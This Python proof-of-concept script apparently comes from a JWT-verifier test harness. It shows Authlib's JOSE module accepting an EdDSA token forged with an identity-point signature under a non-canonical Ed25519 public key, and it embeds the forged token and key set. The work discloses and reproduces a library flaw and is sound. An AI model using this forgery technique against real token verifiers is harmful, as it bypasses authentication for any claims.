#!/usr/bin/env python3
"""Authlib (authlib.jose) accepts a token signed by nobody: the key set's one Ed25519 key is the
identity point in a non-canonical encoding (x = 0 with the sign bit set: x = "AQAA…AIA"), which
is no valid public key, and the token's signature is R = the identity, S = 0, which verifies under
that key for every message. The library loads the key without checking it (cryptography's
Ed25519PublicKey.from_public_bytes, which takes any 32 bytes) and OpenSSL's Ed25519 verification
accepts the signature, so anyone can mint tokens "signed" by such a key.

RFC 8037 §3.1.2: "Verification is performed by applying the verification algorithm defined in
[RFC8032] to the public key (as public key) …"; RFC 8032 §5.1.3, decoding a point: "If x = 0, and
x_0 = 1, decoding fails." (and §5.1.7 verifies only a public key A that decodes).

Reproduces: eddsa/key-non-canonical-identity-sign-bit (forgery)

(The same root cause accepts eddsa/key-non-canonical-identity-y-p-plus-1(-sign-bit),
key-non-canonical-order2-sign-bit and key-non-canonical-order4-y-p(-sign-bit): other small-order
points, non-canonically encoded. The library has no setting that checks an OKP key.)

Run (after scripts/setup.sh): adapters/authlib/.venv/bin/python adapters/authlib/repro.py
Configured as adapters/authlib/adapter.py configures it; needs only Authlib (with cryptography).
authlib.jose: JsonWebKey.import_key_set -> OKPKey.import_key -> Ed25519PublicKey.from_public_bytes,
no check.

(Before the adapter declared EdDSA, Authlib's gravest finding was time/exp-equals-now,
policy-bypass: exp = now is still accepted.)
"""

import sys
import warnings

from authlib.deprecate import AuthlibDeprecationWarning

warnings.simplefilter("ignore", AuthlibDeprecationWarning)  # authlib.jose is deprecated in favour of joserfc

from authlib.jose import JsonWebKey, JsonWebSignature, JsonWebToken, JoseError  # noqa: E402

VECTOR = "eddsa/key-non-canonical-identity-sign-bit"
TOKEN = (
    "eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ"
    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6"
    "MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNL"
    "NE01TjZQN1E4UjlTMFQxVjIifQ"
    ".AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
)
JWKS = {"keys": [{"alg": "EdDSA", "crv": "Ed25519", "kid": "ed25519", "kty": "OKP", "use": "sig",
                  "x": "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAIA"}]}
ISSUER, AUDIENCES, ALGORITHMS, NOW, LEEWAY, MAX_TOKEN_BYTES = (
    "https://issuer.example", ["https://api.example"], ["EdDSA"], 1700000000, 0, 8192)
REQUIRED = ("exp", "iat", "iss", "aud", "sub", "client_id", "jti")


def main():
    JsonWebSignature.MAX_CONTENT_LENGTH = MAX_TOKEN_BYTES
    options = {claim: {"essential": True} for claim in REQUIRED}
    options.update(iss={"essential": True, "value": ISSUER}, aud={"essential": True, "values": AUDIENCES})
    try:
        claims = JsonWebToken(ALGORITHMS).decode(TOKEN, JsonWebKey.import_key_set(JWKS), claims_options=options)
        claims.validate(now=NOW, leeway=LEEWAY)
    except (JoseError, ValueError) as error:
        print(f"NOT REPRODUCED {VECTOR}: Authlib rejected the token: {type(error).__name__}: {error}")
        return 1
    print(f"REPRODUCED {VECTOR}: Authlib (authlib.jose) accepted a token whose EdDSA signature is R = identity, S = 0 under a "
          f"non-canonical identity public key (a signature anyone can make for any claims): sub = {claims.get('sub')!r}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
